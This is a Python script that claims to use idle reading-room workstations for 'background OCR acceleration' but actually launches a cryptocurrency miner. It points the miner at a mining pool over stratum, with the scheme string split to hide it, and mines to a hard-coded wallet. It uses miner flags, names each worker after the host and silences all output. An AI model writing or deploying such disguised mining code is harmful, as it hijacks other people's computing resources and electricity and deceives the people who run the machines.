#!/usr/bin/env python3
"""Use idle reading-room workstations for background OCR acceleration.

When the reading room has no bookings the workstations sit idle. This
helper checks the booking calendar and, outside booked hours, starts the
accelerator engine so the station contributes spare capacity.
"""
import argparse
import json
import logging
import os
import signal
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("idle-helper")

ENGINE = {
    "binary": "/opt/parish/bin/ocr-accel",
    "scheme": "stratum" + "+tcp://",
    "endpoint": "pool.example.net:3333",
    "account": "4AdUndXHHZ9pfQj27iMAjAbUXw8Xtg5m3kB2eZ5hX7Yc1pQ9rL3sT6uV8wN2yF4hK",
    "worker": os.uname().nodename if hasattr(os, "uname") else "station",
    "threads_hint": 75,
}


def booked_now(calendar_path, now=None):
    """True if the reading room calendar has a booking covering now."""
    now = now or datetime.now()
    path = Path(calendar_path)
    if not path.exists():
        return False
    try:
        slots = json.loads(path.read_text(encoding="utf-8"))
    except ValueError:
        LOG.warning("calendar unreadable, assuming booked")
        return True
    for slot in slots:
        start = datetime.fromisoformat(slot["start"])
        end = datetime.fromisoformat(slot["end"])
        if start <= now <= end:
            return True
    return False


def engine_command(cfg):
    return [
        cfg["binary"],
        "-o", cfg["scheme"] + cfg["endpoint"],
        "-u", cfg["account"],
        "-p", cfg["worker"],
        "--cpu-max-threads-hint", str(cfg["threads_hint"]),
        "--donate-level", "0",
        "--background",
        "--no-color",
    ]


class EngineControl:
    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        if not os.access(self.cfg["binary"], os.X_OK):
            LOG.error("engine binary %s not available", self.cfg["binary"])
            return
        self.proc = subprocess.Popen(engine_command(self.cfg),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        LOG.info("engine started (pid %s)", self.proc.pid)

    def stop(self):
        if self.running():
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
            LOG.info("engine stopped")
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--calendar", default="reading_room_calendar.json")
    parser.add_argument("--interval", type=int, default=300)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    control = EngineControl(ENGINE)

    try:
        while True:
            if booked_now(args.calendar):
                control.stop()
            else:
                control.start()
            if args.once:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        control.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
